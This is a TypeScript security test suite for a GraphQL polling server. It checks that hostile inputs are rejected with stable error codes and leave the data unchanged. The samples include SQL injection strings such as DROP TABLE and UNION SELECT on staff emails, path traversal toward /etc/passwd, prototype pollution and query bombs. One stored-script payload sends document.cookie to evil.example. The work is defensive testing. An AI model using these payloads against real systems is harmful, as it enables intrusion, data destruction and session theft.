/**
 * The security suite: hostile input of many kinds, each of which must get a clear error with a
 * stable code, run no SQL where it should not, change nothing, and leave the server serving.
 * "Changes nothing" is checked with a fingerprint of every table's rows; "runs no SQL" with the
 * server's statement counter.
 */
import { startTestApp, type TestApp } from '../helpers/app';
import { createPoll, surveyInput, type CreatedPoll } from '../helpers/polls';

let t: TestApp;
let tokens: Record<'admin' | 'editor' | 'analyst' | 'media', string>;
let poll: CreatedPoll;

beforeAll(async () => {
  t = await startTestApp({ seed: true, env: { SIGN_IN_ATTEMPTS_PER_15_MIN: '5' } });
  tokens = {
    admin: await t.signIn('admin'),
    editor: await t.signIn('editor'),
    analyst: await t.signIn('analyst'),
    media: await t.signIn('media'),
  };
  poll = await createPoll(t, tokens.editor, surveyInput());
});
afterAll(() => t.close());

interface Reply {
  status: number;
  body: { data?: Record<string, any> | null; errors?: Array<{ message: string; extensions?: Record<string, unknown> }> };
  text: string;
}

async function raw(init: RequestInit & { path?: string }): Promise<Reply> {
  const res = await fetch(`${t.url}${init.path ?? '/graphql'}`, init);
  const text = await res.text();
  let body: Reply['body'];
  try {
    body = JSON.parse(text);
  } catch {
    body = {};
  }
  return { status: res.status, body, text };
}
const post = (body: string | Buffer, headers: Record<string, string> = {}) =>
  raw({ method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
const gql = (query: string, variables: Record<string, unknown> = {}, token?: string) =>
  post(JSON.stringify({ query, variables }), token ? { authorization: `Bearer ${token}` } : {});

/** A fingerprint of every row of every table in the public schema (sessions and the audit log included). */
async function fingerprint(): Promise<string> {
  const tables: Array<{ name: string }> = await t.app.db.query(
    `SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public' AND tablename <> 'schema_migration' ORDER BY 1`,
  );
  const parts = await Promise.all(
    tables.map(async ({ name }) => {
      const [{ h }] = await t.app.db.query(`SELECT md5(coalesce(string_agg(x::text, ',' ORDER BY x::text), '')) AS h FROM "${name}" x`);
      return `${name}:${h}`;
    }),
  );
  return parts.join(' ');
}

type Sql = 'none' | 'some';
interface Case {
  kind: string;
  send: () => Promise<Reply>;
  code: string;
  status?: number;
  sql: Sql;
}

const nested = (depth: number) => `{ goals { edges { node { ${'a { '.repeat(depth)}b${' }'.repeat(depth)} } } } }`;
const INJECTIONS = [`' OR '1'='1`, `'); DROP TABLE goal; --`, `%' UNION SELECT email FROM staff_user --`, `\\'; SELECT pg_sleep(5); --`];

const CASES: Case[] = [
  // Transport
  {
    kind: 'oversized body',
    send: () => post(JSON.stringify({ query: '{ districts { id } }', variables: { pad: 'x'.repeat(300 * 1024) } })),
    code: 'PAYLOAD_TOO_LARGE',
    status: 413,
    sql: 'none',
  },
  { kind: 'malformed JSON', send: () => post('{"query": "{ districts { id } "'), code: 'BAD_REQUEST', status: 400, sql: 'none' },
  {
    kind: 'invalid UTF-8 in the body',
    send: () =>
      post(
        Buffer.concat([
          Buffer.from('{"query":"{ goals(first: 1, filter: { search: \\"'),
          Buffer.from([0xc3, 0x28, 0xff]),
          Buffer.from('\\" }) { totalCount } }"}'),
        ]),
      ),
    code: 'BAD_REQUEST',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'JSON prototype pollution',
    send: () => post('{"query":"{ districts { id } }","__proto__":{"admin":true}}'),
    code: 'BAD_REQUEST',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'wrong media type',
    send: () => raw({ method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<q/>' }),
    code: 'UNSUPPORTED_MEDIA_TYPE',
    status: 415,
    sql: 'none',
  },
  {
    kind: "an automatic persisted query whose hash is not its query's",
    send: () => post('{"query":"{ districts { id } }","extensions":{"persistedQuery":{"version":1,"sha256Hash":"abc"}}}'),
    code: 'BAD_REQUEST',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'CSRF-able simple POST',
    send: () => raw({ method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{"query":"mutation { signOut { signedOut } }"}' }),
    code: 'BAD_REQUEST',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'mutation over GET',
    send: () =>
      raw({
        method: 'GET',
        path: `/graphql?query=${encodeURIComponent('mutation { signOut { signedOut } }')}`,
        headers: { 'apollo-require-preflight': 'true' },
      }),
    code: 'BAD_REQUEST',
    status: 405,
    sql: 'none',
  },
  {
    kind: 'batched requests',
    send: () => post(JSON.stringify([{ query: '{ districts { id } }' }, { query: '{ districts { id } }' }])),
    code: 'BAD_REQUEST',
    status: 400,
    sql: 'none',
  },
  // Query shape
  { kind: 'depth bomb', send: () => gql(nested(25)), code: 'GRAPHQL_VALIDATION_FAILED', status: 400, sql: 'none' },
  {
    kind: 'alias flood',
    send: () => gql(`{ ${Array.from({ length: 50 }, (_, i) => `a${i}: districts { id }`).join(' ')} }`),
    code: 'GRAPHQL_VALIDATION_FAILED',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'token flood',
    send: () => gql(`{ districts { ${'id '.repeat(5000)} } }`),
    code: 'GRAPHQL_PARSE_FAILED',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'directive flood',
    send: () => gql(`{ districts { id ${'@include(if: true) '.repeat(80)} } }`),
    code: 'GRAPHQL_VALIDATION_FAILED',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'fragment cycle',
    send: () => gql('{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }'),
    code: 'GRAPHQL_VALIDATION_FAILED',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'cost bomb (wide nested lists)',
    send: () =>
      gql(
        '{ polls(first: 50) { edges { node { questions { options { id } } districts { id } } } } goals(first: 50) { edges { node { indicators { poll { questions { options { id } } } } } } } }',
      ),
    code: 'GRAPHQL_VALIDATION_FAILED',
    status: 400,
    sql: 'none',
  },
  // Values
  {
    kind: 'NUL byte in a text field',
    send: () =>
      gql(
        'mutation ($i: CreateGoalInput!) { createGoal(input: $i) { goal { id } } }',
        { i: { titleFa: 'هدف\u0000', category: 'CULTURE' } },
        tokens.editor,
      ),
    code: 'BAD_USER_INPUT',
    sql: 'some',
  },
  {
    kind: 'a title of nothing but white space, a ZWNJ and a direction mark',
    send: () =>
      gql(
        'mutation ($i: CreateGoalInput!) { createGoal(input: $i) { goal { id } } }',
        { i: { titleFa: '   \u200c\u200f ', category: 'CULTURE' } },
        tokens.editor,
      ),
    code: 'BAD_USER_INPUT',
    sql: 'some',
  },
  {
    kind: 'lone surrogate in a search',
    send: () => gql('query ($s: String) { goals(first: 1, filter: { search: $s }) { totalCount } }', { s: 'a\ud800b' }),
    code: 'BAD_USER_INPUT',
    sql: 'none',
  },
  {
    kind: 'integer overflow',
    send: () => post(JSON.stringify({ query: 'query ($n: Int) { goals(first: $n) { totalCount } }', variables: { n: 2 ** 40 } })),
    code: 'BAD_USER_INPUT',
    status: 400,
    sql: 'none',
  },
  {
    kind: 'pagination abuse: first too large',
    send: () => gql('{ goals(first: 51) { totalCount } }'),
    code: 'BAD_USER_INPUT',
    sql: 'none',
  },
  { kind: 'pagination abuse: negative first', send: () => gql('{ polls(first: -5) { totalCount } }'), code: 'BAD_USER_INPUT', sql: 'none' },
  {
    kind: 'forged cursor',
    send: () => gql(`{ goals(first: 5, after: "${Buffer.from(`' OR 1=1; --`).toString('base64url')}") { totalCount } }`),
    code: 'BAD_USER_INPUT',
    sql: 'none',
  },
  { kind: 'malformed id', send: () => gql(`{ goal(id: "1; DROP TABLE goal") { id } }`), code: 'NOT_FOUND', sql: 'none' },
  // Access
  {
    kind: 'staff-only query, anonymous',
    send: () => gql('query ($id: ID!) { pollInsights(pollId: $id) { responseCount } }', { id: '00000000-0000-0000-0000-000000000000' }),
    code: 'UNAUTHENTICATED',
    sql: 'none',
  },
  { kind: 'admin data, editor', send: () => gql('{ apiKeys { id } }', {}, tokens.editor), code: 'FORBIDDEN', sql: 'some' },
  {
    kind: 'editor mutation, analyst',
    send: () =>
      gql(
        'mutation ($i: CreateGoalInput!) { createGoal(input: $i) { goal { id } } }',
        { i: { titleFa: 'تلاش', category: 'CULTURE' } },
        tokens.analyst,
      ),
    code: 'FORBIDDEN',
    sql: 'some',
  },
  {
    kind: 'forged bearer token',
    send: () => gql('{ me { email } }', {}, 'A'.repeat(43)),
    code: 'UNAUTHENTICATED',
    status: 401,
    sql: 'some',
  },
  {
    kind: 'mass assignment (fields the input does not have)',
    send: () =>
      gql(
        'mutation ($i: CreateGoalInput!) { createGoal(input: $i) { goal { id } } }',
        { i: { titleFa: 'هدف', category: 'CULTURE', id: '00000000-0000-0000-0000-000000000001', createdAt: '2000-01-01T00:00:00Z' } },
        tokens.editor,
      ),
    code: 'BAD_USER_INPUT',
    status: 400,
    sql: 'some',
  },
  {
    kind: 'mass assignment: role escalation on sign-in',
    send: () =>
      gql('mutation ($i: SignInInput!) { signIn(input: $i) { token } }', {
        i: { email: 'editor@nabz.example', password: 'x', role: 'ADMIN' },
      }),
    code: 'BAD_USER_INPUT',
    status: 400,
    sql: 'none',
  },
  // Injection in every search and filter
  ...INJECTIONS.map((s): Case => ({
    kind: `SQL injection in the goals search: ${s}`,
    send: () => gql('query ($s: String) { goals(first: 5, filter: { search: $s }) { totalCount } }', { s }),
    code: 'NONE',
    sql: 'some',
  })),
  ...INJECTIONS.map((s): Case => ({
    kind: `SQL injection in a poll id: ${s}`,
    send: () => gql('query ($id: ID!) { poll(id: $id) { id } }', { id: s }),
    code: 'NOT_FOUND',
    sql: 'none',
  })),
  ...INJECTIONS.map((s): Case => ({
    kind: `SQL injection in an export path: ${s}`,
    send: () =>
      raw({
        method: 'GET',
        path: `/exports/polls/${encodeURIComponent(s)}/responses.csv`,
        headers: { authorization: `Bearer ${tokens.analyst}` },
      }),
    code: 'NOT_FOUND',
    sql: 'some',
  })),
  // Uploaded files: a path out of the storage folder, an id that is SQL, a script sent as a photo
  ...['..%2F..%2Fpackage.json', 'images/..%2F..%2F..%2Fpackage.json', '%2Fetc%2Fpasswd', `images/${'a'.repeat(64)}.webp%00.svg`].map(
    (path): Case => ({
      kind: `path traversal in a file address: ${path}`,
      send: () => raw({ method: 'GET', path: `/files/${path}` }),
      code: 'NOT_FOUND',
      status: 404,
      sql: 'none',
    }),
  ),
  ...INJECTIONS.map((s): Case => ({
    kind: `SQL injection in an image's target id: ${s}`,
    send: () =>
      gql(
        'mutation ($i: AttachImageInput!) { attachGoalImage(input: $i) { image { id } } }',
        { i: { targetId: s, fileId: s, altFa: 'تصویر' } },
        tokens.editor,
      ),
    code: 'NOT_FOUND',
    sql: 'some',
  })),
  {
    kind: 'a script uploaded as a photo',
    send: () => {
      const form = new FormData();
      form.append('file', new Blob(['<script>alert(1)</script>'], { type: 'image/jpeg' }), 'photo.jpg');
      return raw({ method: 'POST', path: '/uploads', headers: { authorization: `Bearer ${tokens.editor}` }, body: form });
    },
    code: 'BAD_USER_INPUT',
    status: 400,
    sql: 'some',
  },
];

describe('hostile input', () => {
  it.each(CASES.map((c) => [c.kind, c] as const))('%s: a clear error, nothing changed, still serving', async (_kind, c) => {
    const before = await fingerprint();
    const statements = t.sqlCount();
    const reply = await c.send();
    const ran = t.sqlCount() - statements;
    if (c.code === 'NONE') {
      // Injection attempts are plain data: the search runs, finds nothing, and errs nowhere.
      expect(reply.body.errors).toBeUndefined();
      expect(reply.body.data?.goals.totalCount).toBe(0);
    } else {
      expect([reply.status, reply.body.errors?.[0]?.extensions?.code]).toEqual([c.status ?? reply.status, c.code]);
      expect(reply.status).toBe(c.status ?? reply.status);
      // No stack, SQL or internals in what the client sees.
      expect(reply.text).not.toMatch(/at \w+ \(|\.ts:\d+|SELECT |INSERT |syntax error at|QueryFailedError|node_modules/);
    }
    if (c.sql === 'none') expect(ran).toBe(0);
    expect(await fingerprint()).toBe(before);
    const alive = await gql('{ districts { id } }');
    expect(alive.body.data?.districts.length).toBeGreaterThan(0);
  });

  it('has at least 20 kinds of hostile input', () => {
    expect(new Set(CASES.map((c) => c.kind.split(':')[0])).size).toBeGreaterThanOrEqual(20);
  });
});

describe('stored script in every text field', () => {
  const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>';
  it('is stored and returned verbatim as plain text (never rendered or executed by the API)', async () => {
    const goal = await gql(
      'mutation ($i: CreateGoalInput!) { createGoal(input: $i) { goal { id title(locale: FA) description(locale: FA) } } }',
      { i: { titleFa: SCRIPT, descriptionFa: SCRIPT, titleEn: SCRIPT, category: 'CULTURE' } },
      tokens.editor,
    );
    expect(goal.body.data?.createGoal.goal).toMatchObject({ title: SCRIPT, description: SCRIPT });
    const created = await createPoll(t, tokens.editor, surveyInput({ titleFa: SCRIPT, descriptionFa: SCRIPT, titleEn: SCRIPT }));
    const read = await gql(
      'query ($id: ID!) { poll(id: $id) { title(locale: FA) description(locale: FA) questions { prompt(locale: FA) } } }',
      { id: created.id },
    );
    expect(read.body.data?.poll).toMatchObject({ title: SCRIPT, description: SCRIPT });
    // JSON responses are never sniffed as HTML.
    const res = await fetch(`${t.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query: '{ districts { id } }' }),
    });
    expect(res.headers.get('content-type')).toMatch(/^application\/(graphql-response\+)?json/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('brute-force sign-in', () => {
  it('locks an account after the allowed attempts, with RATE_LIMITED, while the right password still cannot get through', async () => {
    const attempt = (password: string) =>
      gql('mutation ($i: SignInInput!) { signIn(input: $i) { token } }', { i: { email: 'media@nabz.example', password } });
    const codes: Array<unknown> = [];
    for (let i = 0; i < 7; i++) codes.push((await attempt(`guess-${i}`)).body.errors?.[0]?.extensions?.code);
    expect(codes.slice(0, 5).every((c) => c === 'UNAUTHENTICATED')).toBe(true);
    expect(codes.slice(5)).toEqual(['RATE_LIMITED', 'RATE_LIMITED']);
    expect((await attempt('nabz-demo-1405')).body.errors?.[0]?.extensions?.code).toBe('RATE_LIMITED');
  });
});

describe('submissions cannot be forged', () => {
  it('refuses an answer with an option of another question, a rating out of range, or a foreign respondent token, storing nothing', async () => {
    const [single, multi, rating] = poll.questions;
    const cases = [
      {
        pollId: poll.id,
        answers: [
          { questionId: single.id, optionIds: [multi.options[0].id] },
          { questionId: rating.id, number: 3 },
        ],
      },
      {
        pollId: poll.id,
        answers: [
          { questionId: single.id, optionIds: [single.options[0].id] },
          { questionId: rating.id, number: 99 },
        ],
      },
      {
        pollId: poll.id,
        respondentToken: 'forged.token',
        answers: [
          { questionId: single.id, optionIds: [single.options[0].id] },
          { questionId: rating.id, number: 3 },
        ],
      },
    ];
    const before = await fingerprint();
    for (const input of cases) {
      const res = await gql('mutation ($input: SubmitPollResponseInput!) { submitPollResponse(input: $input) { pollId } }', { input });
      expect(res.body.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    }
    expect(await fingerprint()).toBe(before);
  });
});
